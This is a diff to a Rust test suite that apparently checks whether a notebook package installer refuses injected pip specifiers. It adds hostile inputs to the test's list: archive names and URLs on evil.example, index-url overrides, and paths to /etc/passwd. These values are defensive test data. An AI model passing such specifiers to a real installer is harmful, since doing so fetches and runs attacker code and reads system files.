@@ -22,6 +22,14 @@ const ATTACKS: &[&str] = &[
     "six @ file:///etc/passwd",
     "../../etc",
     "six --extra-index-url https://evil.example",
+    // Names the installer would read as a local archive in its working
+    // directory (built and run on the host, for an sdist).
+    "evil-1.0.tar.gz",
+    "evil-1.0-py3-none-any.whl",
+    "evil.zip",
+    // A package "name" that is a URL.
+    "https://evil.example/evil-1.0.tar.gz",
+    "git+https://evil.example/evil",
 ];
 
 /// `cellhost install SESSION ATTACK` (daemon): exit 2 with
@@ -106,6 +114,8 @@ fn pip_magic_refuses_injected_specs() {
         ("%pip install", "--index-url=https://evil.example/simple six"),
         ("%pip install", "-e ."),
         ("%pip install", "file:///etc"),
+        ("%pip install", "evil-1.0.tar.gz"),
+        ("%pip install", "https://evil.example/evil.whl"),
         ("!pip install", "-r /etc/passwd"),
         ("%uv pip install", "--index-url=https://evil.example/simple six"),
     ] {
